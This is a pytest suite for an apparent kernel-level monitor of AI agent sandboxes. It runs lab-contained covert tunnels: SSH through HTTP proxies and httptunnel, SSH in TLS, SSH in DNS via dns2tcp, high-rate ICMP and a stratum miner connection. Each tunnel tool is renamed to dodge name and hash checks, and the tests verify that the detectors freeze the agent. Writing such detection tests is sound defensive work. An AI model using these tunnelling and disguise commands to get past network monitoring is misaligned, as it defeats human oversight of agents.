"""Tunnel tools from the distribution's packages, each against its real server in the namespace that
stands for the outside, carrying a real ssh session (or a stratum one) from an agent cgroup: httptunnel
through a real HTTP proxy (tinyproxy), proxytunnel and corkscrew through the same proxy, stunnel and
openssl wrapping SSH in TLS, dns2tcp carrying it in DNS queries, ping at a tunnel's packet rate. Each
tool is a renamed copy with a byte appended, so neither name nor hash gives it away: the rule that fires
is the one for what it does. Benign look-alikes (a web request through the proxy, a local TLS service, a
lookup through a real resolver) raise nothing.

The tools come from scripts/install.sh --test; those tests carry the `tools` marker as well as `kernel`.
"""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
import time
from contextlib import contextmanager

import pytest
import test_detect_e2e as e2e
from test_detect_e2e import disguise, for_episode, wait_records

from agentprobe.lab import HOST_ADDR

pytestmark = pytest.mark.kernel
tools = pytest.mark.tools  # needs tools the CI VM image lacks (all here but the DNS, ICMP-rate and listen tests)

# the e2e module's fixtures: a watcher with the default rules, per-test episode cgroups, the lab "internet"
agents, episode, net, netns_server = e2e.agents, e2e.episode, e2e.net, e2e.netns_server

PROXY_PORT = 3128
HTS_PORT = 8888
TLS_PORT = 4443
WEB_PORT = 80


def tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        pytest.fail(f"{name} is not installed: scripts/install.sh --test installs it", pytrace=False)
    return path


def alert_of(recs: list[dict], rule: str) -> dict:
    return next(r for r in recs if r["type"] == "alert" and r["rule"] == rule)


@pytest.fixture(scope="module")
def outside(net, tmp_path_factory):
    """Servers in the outside namespace: tinyproxy (a real CONNECT proxy), hts (httptunnel's server)
    and stunnel (TLS in front of sshd), each a real program; and a web server on port 80."""
    d = tmp_path_factory.mktemp("outside")
    (d / "tinyproxy.conf").write_text(
        f"Port {PROXY_PORT}\nListen {net.addr}\nTimeout 30\nMaxClients 20\nAllow {HOST_ADDR}\nLogLevel Info\n")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                    "-nodes", "-keyout", str(d / "key.pem"), "-out", str(d / "cert.pem"), "-subj", "/CN=outside",
                    "-days", "1"], check=True, capture_output=True)
    (d / "stunnel.conf").write_text(
        f"foreground = yes\npid =\n[ssh]\naccept = {net.addr}:{TLS_PORT}\nconnect = {net.addr}:22\n"
        f"cert = {d / 'cert.pem'}\nkey = {d / 'key.pem'}\n")
    (d / "www").mkdir()
    (d / "www" / "index.html").write_text("hello\n")
    servers = [
        ([tool("tinyproxy"), "-d", "-c", str(d / "tinyproxy.conf")], PROXY_PORT),
        ([tool("hts"), "--no-daemon", "-F", f"{net.addr}:22", str(HTS_PORT)], HTS_PORT),
        ([tool("stunnel4"), str(d / "stunnel.conf")], TLS_PORT),
        ([sys.executable, "-m", "http.server", str(WEB_PORT), "--bind", net.addr, "-d", str(d / "www")], WEB_PORT),
    ]
    procs = []
    try:
        for argv, port in servers:
            procs.append(subprocess.Popen(net.exec_argv(*argv), stdout=open(d / "servers.log", "ab"),
                                          stderr=subprocess.STDOUT))
            net._wait_port(port)
        yield d
    finally:
        for p in procs:
            p.kill()
            p.wait()


@contextmanager
def agent(episode, argv: list[str]):
    """Run argv in the episode in its own session; killed (and the episode thawed) after."""
    p = episode.popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        yield p
    finally:
        try:
            os.killpg(p.pid, 9)
        except ProcessLookupError:
            pass
        (episode.path / "cgroup.freeze").write_text("0")
        p.wait()


def frozen_with(agents, episode, rule: str) -> list[dict]:
    _, out, _ = agents
    if not episode.wait_frozen(20):
        pytest.fail(f"not frozen; alerts: {[r['rule'] for r in for_episode(out, episode) if r['type'] == 'alert']}")
    recs = wait_records(out, episode, lambda rs: any(r["type"] == "alert" and r["rule"] == rule for r in rs))
    alert = alert_of(recs, rule)
    assert alert["action"] == "freeze"
    resp = [r for r in recs if r["type"] == "response"]
    assert resp and resp[0]["outcome"] == "frozen" and resp[0]["cgroup"]["path"] == episode.rel
    return recs


# ---------------------------------------------------------------- HTTP tunnels and CONNECT proxies
@tools
def test_httptunnel_through_a_proxy_carries_ssh(agents, episode, net, outside, tmp_path):
    """ssh's ProxyCommand is a renamed htc, through tinyproxy to hts, which hands it to sshd."""
    worker = tmp_path / "sync-agent"
    disguise(tool("htc"), worker)
    proxy = f"ProxyCommand={worker} -s -P {net.addr}:{PROXY_PORT} {net.addr}:{HTS_PORT}"
    with agent(episode, net.ssh_argv("-o", proxy, "-N", f"root@{net.addr}")):
        recs = frozen_with(agents, episode, "http_tunnel_client")
    alert = alert_of(recs, "http_tunnel_client")
    (ev,) = [e for e in alert["evidence"] if e["type"] == "payload"]
    assert ev["proc"]["comm"] == "sync-agent" and (ev["address"], ev["port"]) == (net.addr, PROXY_PORT)
    # htc's long-poll pair, a POST up and a GET down, through the proxy: whichever left first
    assert re.match(rf"(POST|GET) http://{re.escape(net.addr)}:{HTS_PORT}/index\.html\?crap=\d+ HTTP/1\.1",
                    ev["text"]), ev["text"]
    assert "sync-agent" in alert["summary"] and f"{net.addr}:{PROXY_PORT}" in alert["summary"]


@tools
@pytest.mark.parametrize("name", ["proxytunnel", "corkscrew"])
def test_connect_proxy_tools_carry_ssh(name, agents, episode, net, outside, tmp_path):
    """ssh's ProxyCommand is a renamed proxytunnel/corkscrew asking tinyproxy for CONNECT to sshd."""
    worker = tmp_path / "netcheck"
    disguise(tool(name), worker)
    cmd = {"proxytunnel": f"{worker} -q -p {net.addr}:{PROXY_PORT} -d %h:%p",
           "corkscrew": f"{worker} {net.addr} {PROXY_PORT} %h %p"}[name]
    with agent(episode, net.ssh_argv("-o", f"ProxyCommand={cmd}", "-N", f"root@{net.addr}")):
        recs = frozen_with(agents, episode, "proxy_connect_to_session_or_pool_port")
    alert = alert_of(recs, "proxy_connect_to_session_or_pool_port")
    assert alert["evidence"][0]["proc"]["comm"] == "netcheck" and alert["evidence"][0]["target"] == f"{net.addr}:22"
    assert f"CONNECT {net.addr}:22 via {net.addr}:{PROXY_PORT} by netcheck" in alert["summary"]


@tools
def test_ssh_through_a_node_proxy_to_a_web_port(agents, episode, net, tmp_path):
    """A node-local proxy (tinyproxy on loopback, outside the agent cgroup) and CONNECT to sshd on port
    443: no port and no address gives it away; the SSH bytes right after the CONNECT do."""
    port = 18128
    conf = tmp_path / "tinyproxy.conf"
    conf.write_text(f"Port {port}\nListen 127.0.0.1\nTimeout 30\nAllow 127.0.0.1\n")
    proxy = subprocess.Popen([tool("tinyproxy"), "-d", "-c", str(conf)], stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 5
        while not subprocess.run(["ss", "-Htln", f"sport = :{port}"], capture_output=True, text=True).stdout.strip():
            assert time.monotonic() < deadline, "tinyproxy did not start"
            time.sleep(0.05)
        worker = tmp_path / "netcheck"
        disguise(tool("corkscrew"), worker)
        cmd = f"ProxyCommand={worker} 127.0.0.1 {port} %h %p"
        with agent(episode, net.ssh_argv("-p", str(net.SSH_ALT_PORT), "-o", cmd, "-N", f"root@{net.addr}")):
            recs = frozen_with(agents, episode, "ssh_through_http_proxy")
    finally:
        proxy.kill()
        proxy.wait()
    alert = alert_of(recs, "ssh_through_http_proxy")
    connect, banner = alert["evidence"]
    assert (connect["app"], connect["target"], connect["port"]) == ("http-connect", f"{net.addr}:443", port)
    assert (banner["app"], banner["port"], banner["proc"]["comm"]) == ("ssh", port, "netcheck")
    assert f"SSH through the HTTP proxy 127.0.0.1:{port} by netcheck" in alert["summary"]
    assert {r["rule"] for r in recs if r["type"] == "alert"} == {"ssh_through_http_proxy"}


STRATUM = r"""
import json, socket, sys, time
deadline = time.monotonic() + 10
while True:
    try:
        s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
        break
    except OSError:
        if time.monotonic() > deadline:
            raise
        time.sleep(0.1)
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["kworker"]}).encode() + b"\n")
time.sleep(10)
"""


@tools
def test_proxytunnel_carries_stratum(agents, episode, net, outside, tmp_path):
    """A renamed proxytunnel listens on loopback and asks the proxy for the pool; a miner talks to it."""
    worker = tmp_path / "cache-proxy"
    disguise(tool("proxytunnel"), worker)
    (tmp_path / "miner.py").write_text(STRATUM)
    with agent(episode, ["/bin/sh", "-c", f"{worker} -q -a 2290 -p {net.addr}:{PROXY_PORT} -d "
                                          f"{net.addr}:{net.pool_port} & {sys.executable} {tmp_path}/miner.py 2290"]):
        # the tool asks the proxy for the pool as soon as the miner connects, and the miner sends stratum
        # at once: either may freeze the episode first
        frozen_with(agents, episode, "proxy_connect_to_session_or_pool_port")
        recs = wait_records(agents[1], episode, lambda rs: any(r["type"] == "tunnel" for r in rs), timeout=3)
    alert = alert_of(recs, "proxy_connect_to_session_or_pool_port")
    assert f"CONNECT {net.addr}:{net.pool_port} via {net.addr}:{PROXY_PORT} by cache-proxy" in alert["summary"]
    assert alert["evidence"][0]["target"] == f"{net.addr}:{net.pool_port}"
    stratum = [r for r in recs if r["type"] == "alert" and r["rule"] == "stratum_protocol"]
    if stratum:  # the miner spoke before the freeze: the bytes on loopback lead to the tool
        assert stratum[0]["evidence"][0]["port"] == 2290
        assert stratum[0]["evidence"][0]["method"] == "mining.subscribe"
        (t,) = [r for r in recs if r["type"] == "tunnel"]
        assert (t["carried"], t["port"], t["proc"]["comm"]) == ("stratum", 2290, "cache-proxy")
        assert t["to"] == [f"{net.addr}:{PROXY_PORT}"]


# ---------------------------------------------------------------- TLS wrappers
@tools
def test_ssh_wrapped_in_tls_by_openssl(agents, episode, net, outside, tmp_path):
    """ssh's ProxyCommand is a renamed openssl s_client to stunnel in front of sshd: HTTPS on the wire."""
    worker = tmp_path / "fetcher"
    disguise(tool("openssl"), worker)
    proxy = f"ProxyCommand={worker} s_client -quiet -connect {net.addr}:{TLS_PORT}"
    with agent(episode, net.ssh_argv("-o", proxy, "-N", f"root@{net.addr}")):
        recs = frozen_with(agents, episode, "ssh_wrapped_in_tls")
    alert = alert_of(recs, "ssh_wrapped_in_tls")
    ev = alert["evidence"][0]
    assert (ev["type"], ev["app"], ev["address"], ev["port"]) == ("payload", "tls", net.addr, TLS_PORT)
    assert ev["proc"]["comm"] == "fetcher" and alert["chain"][1]["comm"] == "ssh"
    assert f"by fetcher (pid {ev['proc']['pid']}, parent ssh) to {net.addr}:{TLS_PORT}" in alert["summary"]


@tools
def test_ssh_through_a_local_stunnel_client(agents, episode, net, outside, tmp_path):
    """A renamed stunnel in client mode listens on loopback and wraps what it gets in TLS to the outside
    stunnel; ssh goes to the loopback port. The alert names the wrapper and where it goes."""
    worker = tmp_path / "tls-helper"
    disguise(tool("stunnel4"), worker)
    conf = tmp_path / "client.conf"
    conf.write_text(f"foreground = yes\npid =\n[ssh]\nclient = yes\naccept = 127.0.0.1:2289\n"
                    f"connect = {net.addr}:{TLS_PORT}\n")
    ssh = shlex.join(net.ssh_argv("-p", "2289", "-N", "root@127.0.0.1"))
    with agent(episode, ["/bin/sh", "-c", f"{worker} {conf} & sleep 0.5; {ssh}"]):
        recs = frozen_with(agents, episode, "session_through_local_tunnel")
    (t,) = [r for r in recs if r["type"] == "tunnel"]
    assert (t["carried"], t["port"], t["proc"]["comm"], t["client"]["comm"]) == ("ssh", 2289, "tls-helper", "ssh")
    alert = alert_of(recs, "session_through_local_tunnel")
    if t["to"]:  # the freeze may come before stunnel has connected out; then there is nowhere to name
        assert t["to"] == [f"{net.addr}:{TLS_PORT}"] and f"to {net.addr}:{TLS_PORT}" in alert["summary"]
    assert "tls-helper" in alert["summary"]


# ---------------------------------------------------------------- DNS
def test_dns_tunnel_with_dns2tcp_renamed(agents, episode, net, netns_server, tmp_path):
    """A renamed dns2tcpc carries an SSH session in DNS queries to dns2tcpd, as ssh's ProxyCommand does
    (`-l -`: the session on its stdin). Its names carry data from its first exchange on (the second auth
    query has a 63-character label): frozen as a DNS tunnel (dns2tcp is in the CI image: no `tools`).

    Not through a loopback port (`-l PORT`): there the SSH bytes on loopback lead to the listener, and
    session_through_local_tunnel freezes it as soon as its first (short) query names where it goes, racing
    the DNS server's answer that the data-carrying query waits for. Both freeze the tunnel; which one
    wins is timing: with the agents' CPU busy, mostly the local-tunnel rule (the CI flake in the 6.1 VM)."""
    _, out, _ = agents
    conf = tmp_path / "dns2tcpd.conf"
    conf.write_text(f"listen = {net.addr}\nport = 53\nuser = root\ndomain = t.example.org\n"
                    f"resources = ssh:{net.addr}:22\n")
    netns_server(tool("dns2tcpd"), "-F", "-f", str(conf), udp_port=53)
    helper = tmp_path / "resolver-helper"
    disguise(tool("dns2tcpc"), helper)
    session = "printf 'SSH-2.0-OpenSSH_9.2p1 tunnelled\\r\\n'; sleep 30"
    with agent(episode, ["/bin/sh", "-c", f"({session}) | {helper} -z t.example.org -r ssh -l - {net.addr}"]):
        recs = frozen_with(agents, episode, "dns_tunnel_query")
    alert = alert_of(recs, "dns_tunnel_query")
    resp = [r for r in recs if r["type"] == "response"]
    assert resp[0]["rule"] == "dns_tunnel_query", [r["rule"] for r in resp]
    (ev,) = alert["evidence"]
    qname = ev["dns"]["qname"]
    assert ev["type"] == "packet" and (ev["address"], ev["port"]) == (net.addr, 53), ev
    assert ev["proc"]["comm"] == "resolver-helper" and qname.endswith(".t.example.org")
    assert max(len(label) for label in qname.split(".")) >= 40, qname
    rules = {r["rule"] for r in recs if r["type"] == "alert"}
    assert "dns_to_unexpected_server" in rules and "session_through_local_tunnel" not in rules, rules
    assert f"DNS query {qname}" in alert["summary"] and "resolver-helper" in alert["summary"]


# ---------------------------------------------------------------- ICMP by rate
def test_icmp_at_a_tunnels_rate(agents, episode, net):
    """Small echo requests, 500 a second: no packet is large, the kernel's count gives it away (ping is
    in the CI image: no `tools` marker)."""
    with agent(episode, ["ping", "-q", "-i", "0.002", "-s", "24", "-c", "1500", net.addr]) as p:
        recs = frozen_with(agents, episode, "icmp_tunnel_by_rate")
        alert = alert_of(recs, "icmp_tunnel_by_rate")
        assert all(e["type"] == "flow_counts" and e["address"] == net.addr for e in alert["evidence"])
        assert sum(e["packets"] for e in alert["evidence"]) >= 200
        assert max(e["max_len"] for e in alert["evidence"]) == 24
        assert alert["proc"]["pid"] == p.pid and "icmp_tunnel" not in {
            r["rule"] for r in recs if r["type"] == "alert"}


# ---------------------------------------------------------------- benign look-alikes
@tools
def test_web_through_the_proxy_local_tls_and_a_real_resolver_raise_nothing(agents, episode, net, outside,
                                                                             tmp_path):
    _, out, _ = agents
    resolv = tmp_path / "resolv.conf"
    resolv.write_text("nameserver 127.0.0.77\n")
    dns = subprocess.Popen([tool("dnsmasq"), "--no-daemon", "--no-resolv", "--no-hosts", "--bind-interfaces",
                            "--listen-address=127.0.0.77", "--port=53", "--address=/pypi.org/198.51.100.2",
                            f"--pid-file={tmp_path / 'dnsmasq.pid'}"],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    script = f"""
set -e
proxy=http://{net.addr}:{PROXY_PORT}
curl -sf -x $proxy http://{net.addr}:{WEB_PORT}/ | grep -q hello
curl -sf -x $proxy --proxytunnel http://{net.addr}:{WEB_PORT}/ | grep -q hello
openssl s_server -accept 127.0.0.1:18443 -cert {outside / 'cert.pem'} -key {outside / 'key.pem'} -www -quiet &
srv=$!
for i in $(seq 50); do curl -skf https://127.0.0.1:18443/ >/dev/null && break; sleep 0.1; done
kill $srv
unshare -m sh -c 'mount --bind {resolv} /etc/resolv.conf; getent ahostsv4 pypi.org' | grep -q 198.51.100.2
"""
    try:
        time.sleep(0.3)
        r = episode.run(["/bin/bash", "-c", script], text=True)
        assert r.returncode == 0, r.stderr
        time.sleep(1.5)
        recs = for_episode(out, episode)
    finally:
        dns.kill()
        dns.wait()
    assert [r["rule"] for r in recs if r["type"] == "alert"] == [] and not episode.frozen()
    payloads = {(r["address"], r["port"], r["app"]) for r in recs if r["type"] == "payload"}
    assert (net.addr, PROXY_PORT, "http") in payloads and (net.addr, PROXY_PORT, "http-connect") in payloads
    assert ("127.0.0.1", 18443, "tls") in payloads
    dnsq = [r for r in recs if r["type"] == "packet" and r.get("port") == 53]
    assert dnsq and {r["address"] for r in dnsq} == {"127.0.0.77"} and dnsq[0]["dns"]["qname"] == "pypi.org"


# ---------------------------------------------------------------- listeners on a port the kernel chose
LISTENERS = r"""
import socket, time
a = socket.socket(); a.bind(("0.0.0.0", 0)); a.listen(1)   # bound to port 0, then listening
b = socket.socket(); b.listen(1)                            # listening without bind
c = socket.socket(); c.bind(("127.0.0.1", 0)); c.listen(1) # loopback: nobody outside reaches it
print(a.getsockname()[1], b.getsockname()[1], flush=True)
time.sleep(0.3)
"""


def test_listen_on_a_port_the_kernel_chose(agents, episode):
    """bind(0.0.0.0:0) + listen and a bare listen: the bind hook sees port 0 (a client-like bind), the
    listen tracepoint sees a listener reachable from outside."""
    _, out, _ = agents
    r = episode.run([sys.executable, "-c", LISTENERS], text=True)
    assert r.returncode == 0, r.stderr
    bound, autobound = map(int, r.stdout.split())
    recs = wait_records(out, episode, lambda rs: len([x for x in rs if x["type"] == "listen"]) >= 2)
    # in any order (per-CPU buffers on some kernels); the bare listen's port is chosen after the record
    assert sorted((x["address"], x["port"], x["sock_type"]) for x in recs if x["type"] == "listen") == [
        ("0.0.0.0", 0, "stream"), ("0.0.0.0", bound, "stream")]
    assert [(x["address"], x["port"]) for x in recs if x["type"] == "bind"] == [("0.0.0.0", 0)]
    (alert,) = [x for x in recs if x["type"] == "alert"]  # one a process
    assert alert["rule"] == "agent_listens_outside_loopback" and alert["evidence"][0]["type"] == "listen"
    assert "on 0.0.0.0 port" in alert["summary"] and "(listen)" in alert["summary"] and bound != autobound
